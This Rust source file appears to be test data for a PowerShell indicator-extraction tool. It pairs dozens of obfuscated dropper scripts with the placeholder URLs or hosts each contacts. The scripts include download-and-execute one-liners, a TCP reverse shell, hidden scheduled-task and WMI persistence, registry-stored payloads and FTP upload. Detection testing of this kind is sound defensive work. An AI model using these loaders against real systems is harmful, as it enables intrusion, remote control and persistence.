//! Scripts in the manners of droppers and obfuscators, each with what it contacts: URLs, or hosts
//! with their ports.

/// Script and contacts.
pub(super) const CONTACTS: &[(&str, &[&str])] = &[
    (
        r#"$s = @"
`$u = 'http://h01.example/a.exe'
(New-Object Net.WebClient).DownloadFile(`$u, "`$env:TEMP\a.exe")
"@
Invoke-Expression $s"#,
        &["http://h01.example/a.exe"],
    ),
    (
        r#"$p = @{ Uri = 'http://h02.example/b.ps1'; UseBasicParsing = $true; OutFile = "$env:TEMP\b.ps1"; Headers = @{ 'Referer' = 'x' } }
Invoke-WebRequest @p
& "$env:TEMP\b.ps1""#,
        &["http://h02.example/b.ps1"],
    ),
    (
        r#"$a = $env:PROCESSOR_ARCHITECTURE
$n = switch -Regex ($a) { '^AMD' { 'x64' } 'x86' { 'x86' } default { 'any' } }
iwr "http://h03.example/$n.exe" -OutFile C:\p.exe
foreach ($k in 'x86','x64') { $null = iwr ("http://h03.example/{0}.exe" -f $k) }"#,
        &["http://h03.example/x86.exe", "http://h03.example/x64.exe"],
    ),
    (
        r#"class Loader {
  [string]$Base = 'http://h04.example'
  static [int]$Count = 0
  Loader() {}
  Loader([string]$b) { $this.Base = $b }
  [string] Url([int]$i) { return "$($this.Base)/c/$i" }
  [void] Get([int]$i) { [Loader]::Count++; (New-Object System.Net.WebClient).DownloadString($this.Url($i)) | Out-Null }
}
$l = [Loader]::new()
1..2 | % { $l.Get($_) }"#,
        &["http://h04.example/c/1", "http://h04.example/c/2"],
    ),
    (
        "enum Stage { One = 1; Two = 2 }
$t = @{ [Stage]::One = 'one'; [Stage]::Two = 'two' }
$u = 'http://h05.example/' + $t[[Stage]::Two]
irm $u | iex",
        &["http://h05.example/two"],
    ),
    (
        "trap { (New-Object Net.WebClient).DownloadString('http://h06.example/t') | iex; continue }
throw 'bad'",
        &["http://h06.example/t"],
    ),
    ("$true && (irm http://h07.example/a)", &["http://h07.example/a"]),
    (
        "$x = $null
$u = $x ?? 'http://h08.example/z'
$u ??= 'http://no.example/'
irm -Uri $u",
        &["http://h08.example/z"],
    ),
    (
        "$u = [Environment]::Is64BitOperatingSystem ? 'http://h09.example/64' : 'http://h09.example/64'
irm $u",
        &["http://h09.example/64"],
    ),
    (
        "function Get-It { [CmdletBinding()] param([Parameter(ValueFromPipeline=$true)][string]$Name) begin { $b = 'http://h10.example/' } process { irm ($b + $Name) } end { 'done' } }
'1','2' | Get-It",
        &["http://h10.example/1", "http://h10.example/2"],
    ),
    (
        r#"function Send-Req { param([Parameter(ValueFromPipelineByPropertyName=$true)]$Url, [Parameter(ValueFromPipelineByPropertyName=$true)]$Path) process { iwr "$Url/$Path" } }
[pscustomobject]@{ Url = 'http://h11.example'; Path = 'q' } | Send-Req"#,
        &["http://h11.example/q"],
    ),
    (
        "$t = 'HTTP://H12.EXAMPLE/Z' -replace '[A-Z]', { $_.Value.ToLower() }
$t = [regex]::Replace('HTTP://H12.EXAMPLE/Z','[A-Z]',{ param($m) $m.Value.ToLower() })
irm $t",
        &["http://h12.example/z"],
    ),
    (
        r"$p = 'a|http://h13.example/p|c' -split '\|', 3
irm $p[1]",
        &["http://h13.example/p"],
    ),
    ("irm ('http://h14.example/{0:d3}/{1:x2}' -f 7, 255)", &["http://h14.example/007/ff"]),
    (
        "$u = [string][char[]](104,116,116,112,58,47,47,104,49,53,46,101,120,97,109,112,108,101,47,49) -replace ' ',''
irm $u",
        &["http://h15.example/1"],
    ),
    (
        "$o = [ordered]@{ s = 'http://'; h = 'h16.example'; p = '/ab' }
irm (-join $o.Values)",
        &["http://h16.example/ab"],
    ),
    (
        "$r = @([pscustomobject]@{h='h17.example'; p=1}) | Select-Object @{n='u';e={ 'http://' + $_.h + '/r' }}
irm $r.u",
        &["http://h17.example/r"],
    ),
    (
        "$l = @('x','http://h18.example/k','y').Where({ $_ -like 'http*' }).ForEach({ $_ })
irm $l[0]",
        &["http://h18.example/k"],
    ),
    (
        "$p = @{i=2;t='example/x'},@{i=0;t='http://'},@{i=1;t='h19.'} | Sort-Object { $_.i } | ForEach-Object { $_.t }
irm ($p -join '')",
        &["http://h19.example/x"],
    ),
    (
        r#"$g = 'a1','b2','a3' | Group-Object { $_[0] }
irm ("http://h20.example/" + ($(if ($g[0].Count -eq 2) {'g'} else {'n'})))"#,
        &["http://h20.example/g"],
    ),
    (
        r#"irm "http://h21.example/$((1..3 | Measure-Object -Sum).Sum)""#,
        &["http://h21.example/6"],
    ),
    (
        r#"$c = '{"c2":{"host":"h22.example","path":"/j"},"n":[1,2]}' | ConvertFrom-Json
irm "http://$($c.c2.host)$($c.c2.path)""#,
        &["http://h22.example/j"],
    ),
    (
        r#"$c = "id,url`n1,http://h23.example/2" | ConvertFrom-Csv
irm $c.url"#,
        &["http://h23.example/2"],
    ),
    (
        r#"$d = ConvertFrom-StringData "host=h24.example`npath=s"
irm "http://$($d.host)/$($d.path)""#,
        &["http://h24.example/s"],
    ),
    (
        r#"[xml]$x = '<c><u host="h25.example">/x</u></c>'
irm ("http://" + $x.c.u.host + $x.c.u.'#text')"#,
        &["http://h25.example/x"],
    ),
    (
        r"New-Item -Path HKCU:\Software\Foo -Force | Out-Null
Set-ItemProperty -Path HKCU:\Software\Foo -Name cfg -Value 'aHR0cDovL2gyNi5leGFtcGxlL3I='
$v = (Get-ItemProperty -Path HKCU:\Software\Foo).cfg
irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($v)))",
        &["http://h26.example/r"],
    ),
    (
        r#"New-ItemProperty -Path 'HKCU:\Software\Bar' -Name 'cfg' -Value "irm http://h27.example/r" -PropertyType String -Force
iex (gp 'HKCU:\Software\Bar' -Name cfg).cfg
iex (Get-ItemPropertyValue HKCU:\Software\Bar cfg)"#,
        &["http://h27.example/r"],
    ),
    (
        "$f = [System.Net.FtpWebRequest]::Create('ftp://h28.example/up.txt')
$f.Method = [System.Net.WebRequestMethods+Ftp]::UploadFile
$f.Credentials = New-Object System.Net.NetworkCredential('u','p')
$s = $f.GetRequestStream(); $s.Write((1,2,3),0,3); $s.Close()",
        &["ftp://h28.example/up.txt"],
    ),
    (
        "$rs = [runspacefactory]::CreateRunspace(); $rs.Open()
$ps = [powershell]::Create(); $ps.Runspace = $rs
[void]$ps.AddScript({ param($u) (New-Object Net.WebClient).DownloadString($u) }).AddArgument('http://h29.example/rs')
$h = $ps.BeginInvoke(); $ps.EndInvoke($h)",
        &["http://h29.example/rs"],
    ),
    (
        r#"$pool = [runspacefactory]::CreateRunspacePool(1,5); $pool.Open()
$jobs = foreach ($i in 0..1) { $p = [powershell]::Create().AddScript({ param($n) irm "http://h30.example/$n" }).AddArgument($i); $p.RunspacePool = $pool; [pscustomobject]@{ P=$p; H=$p.BeginInvoke() } }
$jobs | % { $_.P.EndInvoke($_.H) }"#,
        &["http://h30.example/0", "http://h30.example/1"],
    ),
    (
        "$j = Start-Job -ScriptBlock { param($a) irm $a } -ArgumentList 'http://h31.example/j'
Wait-Job $j | Receive-Job",
        &["http://h31.example/j"],
    ),
    (
        "$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET','http://h33.example/cx',$false); $h.send()
iex $h.responseText",
        &["http://h33.example/cx"],
    ),
    (
        "$ie = New-Object -ComObject InternetExplorer.Application
$ie.Visible = $false
$ie.Navigate('http://h34.example/ie')
while ($ie.Busy) { Start-Sleep -Milliseconds 100 }",
        &["http://h34.example/ie"],
    ),
    (
        r#"([wmiclass]'Win32_Process').Create("powershell -nop -c iex(irm http://h35.example/w)")"#,
        &["http://h35.example/w"],
    ),
    (
        r#"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(''http://h36.example/w'')"' }"#,
        &["http://h36.example/w"],
    ),
    (
        "Resolve-DnsName -Name 'h37.example' -Type TXT | % { $_.Strings } | iex",
        &["h37.example"],
    ),
    (
        "if ((Test-NetConnection -ComputerName h38.example -Port 443).TcpTestSucceeded) { 'ok' }",
        &["h38.example:443"],
    ),
    (
        "$c = New-Object System.Net.Http.HttpClient
$r = $c.GetStringAsync('http://h40.example/hc').GetAwaiter().GetResult()
iex $r",
        &["http://h40.example/hc"],
    ),
    (
        "$c = [System.Net.Http.HttpClient]::new()
$c.BaseAddress = 'http://h41.example/p/'
$c.GetAsync('x').Result.Content.ReadAsStringAsync().Result | iex",
        &["http://h41.example/p/x"],
    ),
    (
        "$m = [System.Net.Http.HttpRequestMessage]::new('POST','http://h42.example/m')
$m.Content = [System.Net.Http.StringContent]::new('{}')
([System.Net.Http.HttpClient]::new()).SendAsync($m).Result | Out-Null",
        &["http://h42.example/m"],
    ),
    (
        "$w = New-Object Net.WebClient
$w.BaseAddress = 'http://h43.example/dir/'
$w.QueryString.Add('a','1') | Out-Null
$w.DownloadFile('f.bin', 'f.bin')",
        &["http://h43.example/dir/f.bin"],
    ),
    (
        "$b = New-Object System.UriBuilder
$b.Scheme='https'; $b.Host = 'h44.example'; $b.Port = 8443; $b.Path = 'api/v1'; $b.Query='id=7'
irm $b.Uri",
        &["https://h44.example:8443/api/v1?id=7"],
    ),
    (
        r#"$u = [uri]'http://h45.example/a?x=1'
irm ("{0}://{1}/b" -f $u.Scheme, $u.Host)"#,
        &["http://h45.example/b"],
    ),
    (
        "$u = [Uri]::new([Uri]'http://h46.example/x/y', 'z.exe')
(New-Object Net.WebClient).DownloadFile($u, 'z.exe')",
        &["http://h46.example/x/z.exe"],
    ),
    (
        "$m = New-Object Net.Mail.MailMessage('a@x.y','b@x.y','s','b')
$s = New-Object Net.Mail.SmtpClient('h48.example', 587); $s.EnableSsl = $true
$s.Credentials = New-Object System.Net.NetworkCredential('u','p'); $s.Send($m)",
        &["h48.example:587"],
    ),
    (
        "$s = New-Object Net.Mail.SmtpClient
$s.Host = 'h49.example'; $s.Port = 2525
$s.Send('a@b.c','d@e.f','s','b')",
        &["h49.example:2525"],
    ),
    (
        "$c = [System.Net.Sockets.TcpClient]::new()
$c.Connect([Net.IPAddress]::Parse('203.0.113.50'), 4444)
$st = $c.GetStream(); [byte[]]$b = 0..65535|%{0}
while(($i = $st.Read($b,0,$b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i); $o = iex $d 2>&1 | Out-String; $sb=([text.encoding]::ASCII).GetBytes($o); $st.Write($sb,0,$sb.Length) }",
        &["203.0.113.50:4444"],
    ),
    (
        "$s = New-Object System.Net.Sockets.Socket([Net.Sockets.AddressFamily]::InterNetwork,[Net.Sockets.SocketType]::Stream,[Net.Sockets.ProtocolType]::Tcp)
$e = New-Object System.Net.IPEndPoint ([Net.IPAddress]::Parse('203.0.113.51')), 9001
$s.Connect($e)",
        &["203.0.113.51:9001"],
    ),
    (
        "$u = New-Object Net.Sockets.UdpClient
$u.Send([Text.Encoding]::ASCII.GetBytes('hi'), 2, '203.0.113.52', 53)",
        &["203.0.113.52:53"],
    ),
    (
        "$ws = New-Object Net.WebSockets.ClientWebSocket
$ct = New-Object Threading.CancellationToken($false)
$ws.ConnectAsync([Uri]'ws://h53.example:8080/sock', $ct).Wait()",
        &["ws://h53.example:8080/sock"],
    ),
    (
        r#"Import-Module BitsTransfer
Start-BitsTransfer -Source 'http://h54.example/b1','http://h54.example/b2' -Destination "$env:TEMP\1","$env:TEMP\2" -Asynchronous"#,
        &["http://h54.example/b1", "http://h54.example/b2"],
    ),
    (
        r"$j = Start-BitsTransfer -Source http://h55.example/bb -Destination $env:TEMP\bb.exe -Priority Foreground -TransferType Download
Complete-BitsTransfer $j",
        &["http://h55.example/bb"],
    ),
    (
        r#"$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoP -W Hidden -C "iex (irm http://h56.example/t)"'
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -Action $a -Trigger $t -TaskName 'Upd' -Force"#,
        &["http://h56.example/t"],
    ),
    (
        "function f { irm ($args[0] + $args[1]) }
f 'http://h57.example' '/arg'",
        &["http://h57.example/arg"],
    ),
    (
        "param([string]$u = 'http://h58.example/pd', [switch]$v)
function Get-X([string]$a, [int]$n = 3) { if ($n -eq 3) { irm $a } }
Get-X -a $u",
        &["http://h58.example/pd"],
    ),
    (
        r#"$script:base = 'http://h59.example'
function a { $script:p = '/ss' }
a
irm "$script:base$p""#,
        &["http://h59.example/ss"],
    ),
    (
        r#":outer foreach ($i in 1..3) { foreach ($j in 1..3) { if ($j -eq 2) { if ($i -eq 2) { break outer }; continue outer } ; $z = "$i$j" } }
if ($z -eq '21') { irm http://h60.example/l } else { irm http://h60.example/bad }"#,
        &["http://h60.example/l"],
    ),
    (
        r#"using namespace System.Net
$w = [WebClient]::new()
$w.DownloadFile('http://k01.example/a', "$env:TEMP\a.exe")
Start-Process "$env:TEMP\a.exe""#,
        &["http://k01.example/a"],
    ),
    (
        r#"function Get-Stage { param([string]$Path, [switch]$Quiet, [int]$Port = 80) if ($Quiet) { (New-Object Net.WebClient).DownloadString("http://k02.example$Path") | iex } }
Get-Stage -Quiet '/s'"#,
        &["http://k02.example/s"],
    ),
    (
        r#""(New-Object Net.WebClient).DownloadString('http://k03.example/r') | iex" > $env:TEMP\r.ps1
powershell -ExecutionPolicy Bypass -File $env:TEMP\r.ps1"#,
        &["http://k03.example/r"],
    ),
    (
        r"$h = '687474703a2f2f6b30342e6578616d706c652f686578'
$u = -join ($h -split '(?<=\G.{2})' | ? { $_ } | % { [char][Convert]::ToInt32($_, 16) })
Invoke-RestMethod -Uri $u",
        &["http://k04.example/hex"],
    ),
    (
        "$h = '687474703a2f2f6b30352e6578616d706c652f686578'
$u = -join ($h -split '(..)' | Where-Object { $_ } | ForEach-Object { [char]([Convert]::ToByte($_, 16)) })
Invoke-RestMethod -Uri $u",
        &["http://k05.example/hex"],
    ),
    (
        "$t = 'http://k06.exampleXYZ/la' -replace 'XYZ(?=/)', ''
Invoke-WebRequest -Uri $t -UseBasicParsing | Select-Object -ExpandProperty Content | Invoke-Expression",
        &["http://k06.example/la"],
    ),
    (
        r#"$sha = [System.Security.Cryptography.SHA256]::Create()
$h = [BitConverter]::ToString($sha.ComputeHash([Text.Encoding]::UTF8.GetBytes('abc'))).Replace('-','').ToLower()
if ($h.StartsWith('ba7816bf')) { Invoke-WebRequest "http://k07.example/1" } else { Invoke-WebRequest "http://k07.example/2" }"#,
        &["http://k07.example/1"],
    ),
    (
        r#"${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};
${"}="["+"$(@{})"[${)}]+"$(@{})"["${+}${|}"]+"$(@{})"["${@}${=}"]+"$?"[${+}]+"]";
${;}="".("$(@{})"["${+}${[}"]+"$(@{})"["${+}${(}"]+"$(@{})"[${=}]+"$(@{})"[${[}]+"$?"[${+}]+"$(@{})"[${.}]);
${;}="$(@{})"["${+}${[}"]+"$(@{})"[${[}]+"${;}"["${@}${)}"];
"${"}${+}${=}${[}+${"}${+}${+}${(}+${"}${+}${+}${(}+${"}${+}${+}${@}" | &${;} | Out-Null
Invoke-WebRequest http://k08.example/z"#,
        &["http://k08.example/z"],
    ),
    (
        "trap { Write-Host $_; continue }
$c = New-Object Net.WebClient
$c.DownloadString('http://k09.example/x')
throw 'x'
$c.DownloadString('http://k09b.example/y')",
        &["http://k09.example/x", "http://k09b.example/y"],
    ),
    (
        r"$k = [Microsoft.Win32.Registry]::CurrentUser.CreateSubKey('Software\Zed')
$k.SetValue('u', 'http://k10.example/rg')
$v = [Microsoft.Win32.Registry]::GetValue('HKEY_CURRENT_USER\Software\Zed', 'u', $null)
(New-Object System.Net.WebClient).DownloadFile($v, 'C:\Users\Public\x.exe')",
        &["http://k10.example/rg"],
    ),
    (
        "$d = New-Object Security.Cryptography.Rfc2898DeriveBytes('password', [Text.Encoding]::UTF8.GetBytes('saltsalt'), 1000)
$k = $d.GetBytes(32); $iv = $d.GetBytes(16)
$aes = [Security.Cryptography.Aes]::Create(); $aes.Key = $k; $aes.IV = $iv
if ($k.Length -eq 32) { Invoke-WebRequest 'http://k11.example/ok' }",
        &["http://k11.example/ok"],
    ),
    (
        "$ip = [Net.Dns]::GetHostAddresses('k12.example')[0].IPAddressToString
$t = New-Object Net.Sockets.TcpClient($ip, 8443)",
        &["k12.example:8443"],
    ),
];
